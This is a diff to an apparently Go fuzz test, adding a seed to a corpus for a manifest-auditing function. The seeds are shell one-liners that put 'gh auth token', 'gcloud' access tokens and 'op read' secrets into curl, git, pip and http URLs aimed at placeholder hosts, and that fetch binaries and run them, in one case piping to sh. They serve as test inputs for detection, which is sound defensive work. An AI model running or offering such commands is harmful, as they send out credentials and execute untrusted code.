@@ -292,6 +292,7 @@ var fuzzSeeds = [][]string{
 	{"/Applications/A B.app/Contents/MacOS/Google Chrome", "--remote-debugging-port=", "--remote-debugging-address=[::]", "--remote-allow-origins=', *'", "--remote-allow-origins", "-remote-debugging-address=${H}"},
 	{"sh", "-c", `curl "https://$(gh auth token).$X.e/"'x'$(y) https://a$(gh auth token).b.c:1/ ; https GET :1 "$(gh auth token)"; http -o f e.x/$(gcloud auth print-access-token) | sh`},
 	{"sh", "-c", "eget -t '' a/b --to ./ && ./b; eget https://github.com/a/b/ --verify-sha256 x; ubi -p https://github.com/a -i '' && bin/; ubi --url http:// -e ./ --rename-exe-to /; dra b download -I x -o; dra download -i a/b -o / && /b; gh release download -R; kubectl cp a/b/c:/x C: && C:/x; oc -n x cp p: . && ./p; ubi -u x; ubi --url=h:/ -p "},
+	{"sh", "-c", `T=$(gh auth token); git clone https://$T:$(gh auth token)@$H.e/x; git push git+https://a@b/$T?$(gh auth token); pip install "git+ssh://$(gh auth token)@[::1]:x/"; x https://:$T@github.com/ https://$(op read x)@h.e/`},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
